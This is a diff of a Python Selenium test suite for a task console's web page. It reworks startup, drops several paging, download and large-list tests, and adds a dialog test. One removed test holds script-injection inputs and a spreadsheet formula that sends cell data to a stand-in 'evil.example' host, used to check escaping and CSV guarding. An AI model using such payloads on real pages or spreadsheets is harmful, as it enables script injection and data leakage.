@@ -1,7 +1,5 @@
-"""Stories of the console. Each has its own tasks."""
+"""Stories of the console's lists and of a task. Each has its own tasks."""
 
-import concurrent.futures
-import csv
 import json
 import os
 import pathlib
@@ -9,7 +7,8 @@ import re
 import time
 
 from processes import build, free_port
-from proxy import Proxy
+from proxy import Proxy, without
+from selenium.webdriver.common.action_chains import ActionChains
 from selenium.webdriver.common.by import By
 from selenium.webdriver.common.keys import Keys
 from stories import API, Stories
@@ -27,24 +26,11 @@ AXE = """
 
 
 class Console(Stories):
-    """The console of one runner, and of others where a story needs one."""
+    """The lists and tasks of one runner, and of others where a story needs one."""
 
     def prepare(self):
-        """Starts two services: one without a worker, for a thousand tasks, and one for most stories. What takes long begins here."""
-        os.environ["VECTOR_STORES"] = STORES
-        crowd = Console(self.browser, self.processes, self.report, self.screenshots)
-        crowd.start("--no-worker", name="crowd")
-        self.crowd = crowd.api
-        pool = concurrent.futures.ThreadPoolExecutor(1)
-        self.created = pool.submit(crowd.create_all, [f"task-{number:04}" for number in range(1000)])
-        self.start()
-        ids = [f"obj-{number}" for number in range(901, 20_901)]
-        self.create(task_id="large", object_ids=ids, reason="Article 17, ticket 4711")
         self.browser.size(*WIDE)
-
-    def create_all(self, task_ids):
-        with concurrent.futures.ThreadPoolExecutor(8) as pool:
-            list(pool.map(lambda task_id: self.create(task_id=task_id), task_ids))
+        self.start("--vector-stores", STORES)
 
     # ------------------------------------------------------------ the page
 
@@ -151,91 +137,6 @@ class Console(Stories):
         self.expect("the page was never loaded again", self.browser.run("return window.isSamePage") is True)
         self.processes.stop("example")
 
-    def twenty_thousand_objects_page_by_page(self):
-        self.ended("large")
-        failed = [failure["object_id"] for failure in self.outcomes("large", "failed")]
-        self.open("?task=large")
-        self.shows("#range", f"1 to 1,000 of {len(failed):,}")
-        self.expect("the failures are shown first", self.objects() == failed[:1000], self.objects()[:3])
-        self.expect("why is shown", "ticket 4711" in self.text("#fields"), self.text("#fields"))
-        for page in (1, 2):
-            self.browser.one("#next").click()
-            self.shows("#range", f"{page},001 to {page + 1},000 of")
-        self.expect("the third page has the third thousand", self.objects() == failed[2000:3000], self.objects()[:3])
-        self.browser.one("#previous").click()
-        self.shows("#range", "1,001 to 2,000 of")
-        self.expect("the page before has the second thousand", self.objects() == failed[1000:2000], self.objects()[:3])
-        self.inspect("a task")
-        origin = {"origin": self.api, "permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"]}
-        self.browser.devtools("Browser.grantPermissions", **origin)
-        self.browser.one("#copy").click()
-        self.shows("#objects-note", "Copied 1,000 ids")
-        copied = self.browser.run("return navigator.clipboard.readText()")
-        self.expect("the ids of the page are copied", copied.split() == failed[1000:2000], copied[:100])
-        rows = list(csv.reader(self.download("csv", "large-failed.csv").splitlines()))
-        self.expect("the CSV has every failure", [row[0] for row in rows] == ["object_id", *failed], rows[:3])
-        lines = [json.loads(line) for line in self.download("jsonl", "large-failed.jsonl").splitlines()]
-        self.expect("the JSON Lines have every failure", [line["object_id"] for line in lines] == failed, lines[:3])
-        self.open("?task=large")
-        self.browser.one('#outcomes [data-outcome="deleted"]').click()
-        self.shows("#range", f" of {20_000 - len(failed):,}")
-        self.expect("the outcome is in the address", "outcome=deleted" in self.browser.driver.current_url, self.browser.driver.current_url)
-
-    def outcomes(self, task_id, outcome):
-        cursor, items = None, []
-        while True:
-            page = self.call("GET", "info", task_id=task_id, outcome=outcome, **({"cursor": cursor} if cursor else {}))
-            items += page["items"]
-            cursor = page["items_cursor"]
-            if not cursor:
-                return items
-
-    def objects(self):
-        return self.browser.run("return [...document.querySelectorAll('#items .id')].map(cell => cell.textContent)")
-
-    def download(self, button, name):
-        """Downloads a file, and returns its content with its line ends."""
-        self.browser.one(f"#{button}").click()
-        file = self.processes.folder / name
-        self.browser.wait(f"{name} is there", file.exists)
-        self.shows("#objects-note", "Downloaded")
-        content = file.read_bytes().decode()
-        file.unlink()
-        return content
-
-    def a_download_waits_and_stops_and_never_mixes_two_attempts(self):
-        ids = [f"absent-{number}" for number in range(1, 1_501)]
-        self.create(task_id="file", object_ids=ids)
-        self.ended("file")
-        with Proxy(self.api) as proxy:
-            self.open("?task=file", proxy.url)
-            self.shows("#range", "1 to 1,000 of 1,500")
-            proxy.refuse((503, {}), (503, {"Retry-After": "1"}), to="outcome=failed")
-            lines = self.download("jsonl", "file-failed.jsonl").splitlines()
-            self.expect("a busy server delays a download, and does not end it", [json.loads(line)["object_id"] for line in lines] == ids, len(lines))
-            self.expect("both refusals were met", not proxy.refusals, proxy.refusals)
-
-            proxy.refuse((503, {"Retry-After": "60"}), to="outcome=failed")
-            self.browser.one("#csv").click()
-            self.browser.wait("the server is busy", lambda: not proxy.refusals)
-            self.expect("the page says how far it is", self.text("#download-text") == "0 of 1,500 objects", self.text("#download-text"))
-            self.browser.one("#download-stop").click()
-            self.shows("#objects-note", "The download was stopped.")
-            self.browser.wait("its bar goes", lambda: not self.seen("#download"))
-            self.expect("the focus of the button goes to the heading", self.focus() == "objects-title", self.focus())
-
-            proxy.change = self.restarts_between_pages
-            self.browser.one("#csv").click()
-            self.shows("#objects-note", "The download ended: the task was restarted meanwhile. Begin again.")
-            kept = [file.name for file in self.processes.folder.glob("file-failed*")]
-            self.expect("neither leaves a file", kept == [], kept)
-
-    def restarts_between_pages(self, path, body):
-        """Restarts the task after each first page of a download."""
-        if "outcome=failed" in path and "cursor" not in path:
-            self.call("PUT", "restart", task_id="file")
-        return body
-
     def a_row_goes_when_its_task_does(self):
         for name in ("stays", "expires"):
             self.create(task_id=name)
@@ -261,34 +162,35 @@ class Console(Stories):
             self.open()
             self.browser.devtools("Page.removeScriptToEvaluateOnNewDocument", **script)
             self.browser.wait("its row is shown", lambda: self.row("young"))
-            age = self.browser.run("return [...document.querySelectorAll('#rows tr')].find(row => row.querySelector('a').textContent === 'young').querySelector('time').textContent")
-            self.expect(f"by a clock that is wrong by {hours} h a new task is new", re.fullmatch("[0-9]+ s", age) and age != "0 s", age)
+            self.browser.wait(lambda: f"a new task is some seconds old by a clock that is wrong by {hours} h: {self.row('young')}", lambda: re.search("\t[1-9][0-9]* s\t", self.row("young")))
 
-    def no_text_of_a_caller_is_html(self):
-        task_id = "<img/src=x/onerror=window.isHurt=1>&lt;b&gt;"
-        objects = ["<script>window.isHurt=1</script>", '=HYPERLINK("http://evil.example/?"&A1,"x")', 'a "quoted", one', "-1+1"]
-        self.create(task_id=task_id, embedding_model_id="<b>nowhere</b>", object_ids=objects, reason="<svg/onload=window.isHurt=1>")
-        self.ended(task_id)
-        self.open()
-        self.browser.wait("its row is shown", lambda: self.row(task_id))
-        self.expect("the list shows the model as text", "<b>nowhere</b>" in self.row(task_id), self.row(task_id))
-        self.browser.one("#rows").find_element(By.LINK_TEXT, task_id).click()
-        self.shows("#range", "of 4")
-        self.expect("the title is the id as text", self.text("#task-title") == task_id, self.text("#task-title"))
-        self.expect("the reason is text", "<svg/onload" in self.text("#fields"), self.text("#fields"))
-        self.expect("the object ids are text", self.objects() == objects, self.objects())
-        made = self.browser.run("return document.querySelectorAll('main img, main b, main script, main a[href*=evil]').length")
-        self.expect("nothing of it is an element", made == 0, made)
-        self.expect("nothing of it has run", not self.browser.run("return window.isHurt"))
-        name = re.sub("[^A-Za-z0-9._-]+", "_", task_id)
-        text = self.download("csv", f"{name}-failed.csv")
-        rows = list(csv.reader(text.splitlines()))
-        guarded = [objects[0], "'" + objects[1], objects[2], "'" + objects[3]]
-        self.expect("a spreadsheet computes none of the ids", [row[0] for row in rows[1:]] == guarded, rows)
-        self.expect("the CSV has the line ends of RFC 4180", text.count("\r\n") == 5 == text.count("\n"), text)
-        self.expect("the page says so", "In 2 of them a ' stands before" in self.text("#objects-note"), self.text("#objects-note"))
-        lines = self.download("jsonl", f"{name}-failed.jsonl").splitlines()
-        self.expect("the JSON Lines have the ids unchanged", [json.loads(line)["object_id"] for line in lines] == objects, lines)
+    def a_dialog_stays_while_its_call_is_under_way(self):
+        self.create(task_id="patience", object_ids=["obj-7"])
+        self.ended("patience")
+        with Proxy(self.api) as proxy:
+            self.open(origin=proxy.url)
+            self.browser.wait("its row is shown", lambda: self.row("patience"))
+            self.browser.one("#rows").find_element(By.LINK_TEXT, "patience").click()
+            self.shows("#summary", "1 deleted of 1")
+            self.browser.one("#restart").click()
+            self.shows("#dialog-effect", "Every object is deleted (1). Nothing is tried again")
+            release = proxy.hold("/restart")
+            self.browser.one("#dialog-confirm").click()
+            self.browser.wait("nobody can take it back", lambda: not self.browser.one("#dialog-leave").is_enabled())
+            self.press(Keys.ESCAPE)
+            self.expect("Escape does not either", self.seen("#dialog"))
+            release()
+            self.browser.wait("the dialog is closed", lambda: not self.seen("#dialog"))
+            self.shows("#fields", "Attempt2")
+            self.browser.wait("it can be restarted again", lambda: self.seen("#restart") and "done" in self.text("#summary"))
+
+            release = proxy.hold("/info")
+            self.browser.one("#restart").click()
+            self.browser.driver.back()
+            release()
+            calls = len(proxy.calls)
+            self.browser.wait("the list is read", lambda: any("/list" in path for _, path in proxy.calls[calls:]))
+            self.expect("no dialog opens for a task that the person has left", not self.seen("#dialog"))
 
     def a_walk_by_keyboard_to_a_canceled_task(self):
         self.create(task_id="walk", embedding_model_id="slow", object_ids=[f"obj-{number}" for number in range(100, 200)])
@@ -353,6 +255,10 @@ class Console(Stories):
         self.browser.wait("Back takes the model away", lambda: self.row("nowhere-2"))
         self.browser.driver.back()
         self.browser.wait("Back takes the status away", lambda: self.row("here-1"))
+        self.browser.run("document.querySelector('[name=since]').focus()")
+        ActionChains(self.browser.driver).send_keys("1", Keys.ENTER).perform()
+        self.expect("half a time filters nothing", self.browser.driver.current_url.endswith("/"), self.browser.driver.current_url)
+        self.expect("the browser says why", self.browser.run("return document.querySelector('[name=since]').validity.badInput"))
         self.open("?status=failed&since=2026-01-01T00:00:00Z&until=2026-01-02T00:00:00Z")
         self.shows("#list-end", "No task has this status, this model and this time.")
         self.open("?since=yesterday")
@@ -420,7 +326,7 @@ class Console(Stories):
     def dtask_console_lets_in_who_has_its_token_and_passes_calls_on(self):
         data = self.processes.folder / "tasks-behind-dtask"
         port = free_port()
-        self.start("--data", data, name="behind-dtask", port=port)
+        self.start("--data", data, "--vector-stores", STORES, name="behind-dtask", port=port)
         self.create(task_id="again")
         self.ended("again")
         self.create(task_id="stops", embedding_model_id="slow", object_ids=[f"obj-{number}" for number in range(400, 500)])
@@ -456,7 +362,7 @@ class Console(Stories):
         away = self.text("#connection")
         self.expect("the page names the status and ends its sentences once", "(status 502, since" in away and ".." not in away and ". (" not in away, away)
         self.expect("the rows stay", self.row("again") and self.row("stops"))
-        self.start("--data", data, name="behind-dtask", port=port)
+        self.start("--data", data, "--vector-stores", STORES, name="behind-dtask", port=port)
         self.browser.wait("the service is back", lambda: not self.text("#connection"))
         self.processes.stop("dtask")
         self.shows("#connection", "Cannot reach the server since")
@@ -493,56 +399,6 @@ class Console(Stories):
             self.hide(False)
             self.browser.wait("it reads again at once", lambda: len(proxy.calls) > calls)
 
-    def a_thousand_tasks(self):
-        self.api = self.crowd
-        self.browser.wait("all are created", self.created.done)
-        with Proxy(self.api) as proxy:
-            self.browser.size(1440, 12_000)
-            self.open(origin=proxy.url)
-            self.browser.wait("a screen that is higher than a page is filled", lambda: self.browser.run("return document.querySelectorAll('#rows tr').length") > 200)
-            self.browser.size(*WIDE)
-            self.browser.run("window.longest = 0; new PerformanceObserver(list => list.getEntries().forEach(({duration}) => longest = Math.max(longest, duration))).observe({type: 'longtask', buffered: true})")
-            self.browser.wait("all are shown", lambda: self.browser.run("scrollTo(0, document.body.scrollHeight)") or "1,000 tasks. There are no others." in self.text("#list-end"))
-            shown = self.browser.run("return [...document.querySelectorAll('#rows a')].map(link => link.textContent)")
-            self.expect("each is shown once", sorted(shown) == [f"task-{number:04}" for number in range(1000)], len(shown))
-            script = """
-                const link = document.querySelectorAll("#rows a")[given[0]];
-                link.scrollIntoView({block: "center"});
-                link.focus();
-                getSelection().selectAllChildren(link);
-                window.changes = [];
-                new MutationObserver(all => changes.push(...all)).observe(document.querySelector("#rows"), {childList: true});
-                return [link.getBoundingClientRect().top, link.textContent];
-            """
-            # Tasks of the last seconds are read again, since the list may lag.
-            self.browser.wait("the list has settled", lambda: not any("cursor=" in path for path in self.lists(proxy)[-2:]))
-            top, name = self.browser.run(script, 700)
-            calls = len(proxy.calls)
-            self.create(task_id="newest")
-            self.browser.wait("a new task is shown", lambda: self.row("newest"))
-            self.browser.wait("the list is read twice", lambda: len([path for _, path in proxy.calls[calls:] if "list?" in path]) >= 2)
-            reads = [path for _, path in proxy.calls[calls:]]
-            self.expect("the pages further down are not read again", not [path for path in reads if "cursor=" in path], reads)
-            self.expect("only what can be seen is read by itself", len({path for path in reads if "info?" in path}) < 40, len(reads))
-            first = self.browser.run("return document.querySelector('#rows a').textContent")
-            self.expect("a new task is one new row, at the top", first == "newest" and self.browser.run("return changes.length") == 1, first)
-            state = self.browser.run("return [document.activeElement.textContent, String(getSelection())]")
-            self.expect("the focus and the selection stay", state == [name, name], state)
-            moved = self.browser.run("return document.activeElement.getBoundingClientRect().top") - top
-            self.expect("what somebody reads does not move", abs(moved) < 1, moved)
-            self.hide(True)
-            self.create_all([f"late-{number:03}" for number in range(150)])
-            proxy.change = without(*(f"late-{number:03}" for number in range(50)))
-            self.hide(False)
-            self.browser.wait("the newest tasks are shown", lambda: self.row("late-149"))
-            proxy.change = lambda path, body: body
-            self.browser.wait("those that the list had late are shown", lambda: self.row("late-000"))
-            shown = self.browser.run("return [...document.querySelectorAll('#rows a')].map(link => link.textContent)")
-            listed = [task["id"] for task in self.call("GET", "list", limit=200)["tasks"]]
-            self.expect("more new tasks than a page has leave no gap", shown[:200] == listed and len(shown) == 1151, len(shown))
-            print(f"        longest task of the page's thread: {self.browser.run('return longest'):.0f} ms")
-            self.browser.driver.save_screenshot(str(self.screenshots / "a-thousand-tasks.png"))
-
     def the_list_with_tasks(self):
         self.create(task_id="a-long-id-" + "x" * 200, embedding_model_id="m" * 128)
         self.open()
@@ -551,8 +407,7 @@ class Console(Stories):
 
     def picture(self, file):
         """Makes the picture of the README: a list with a task of each kind."""
-        os.environ["VECTOR_STORES"] = STORES.replace("slow", "embed-500").replace("objects_per_second=1", "objects_per_second=60")
-        self.start()
+        self.start("--vector-stores", STORES.replace("slow", "embed-500").replace("objects_per_second=1", "objects_per_second=60"))
         self.browser.size(1200, 470)
         for task_id, fields in {
             "reindex-embed-457": {"embedding_model_id": "embed-457", "object_ids": [f"obj-{number}" for number in range(1, 41)]},
@@ -572,7 +427,6 @@ class Console(Stories):
     STORIES = (
         what_the_policy_stops_is_noticed,
         the_example_from_pending_to_done_while_the_server_goes_and_comes_back,
-        no_text_of_a_caller_is_html,
         a_walk_by_keyboard_to_a_canceled_task,
         a_restart_says_what_it_will_do_and_what_has_changed_meanwhile,
         filters_are_in_the_address,
@@ -580,22 +434,8 @@ class Console(Stories):
         what_lags_never_replaces_what_is_newer,
         dtask_console_lets_in_who_has_its_token_and_passes_calls_on,
         the_page_waits_as_it_is_told_and_while_nobody_sees_it,
-        a_download_waits_and_stops_and_never_mixes_two_attempts,
+        a_dialog_stays_while_its_call_is_under_way,
         a_row_goes_when_its_task_does,
         the_ages_are_those_of_the_server,
-        twenty_thousand_objects_page_by_page,
         the_list_with_tasks,
-        a_thousand_tasks,
     )
-
-
-def without(*task_ids):
-    """A list that does not have some tasks, as `change` of a proxy."""
-
-    def change(path, body):
-        page = json.loads(body)
-        if path.startswith(f"{API}list"):
-            page["tasks"] = [task for task in page["tasks"] if task["id"] not in task_ids]
-        return json.dumps(page).encode()
-
-    return change
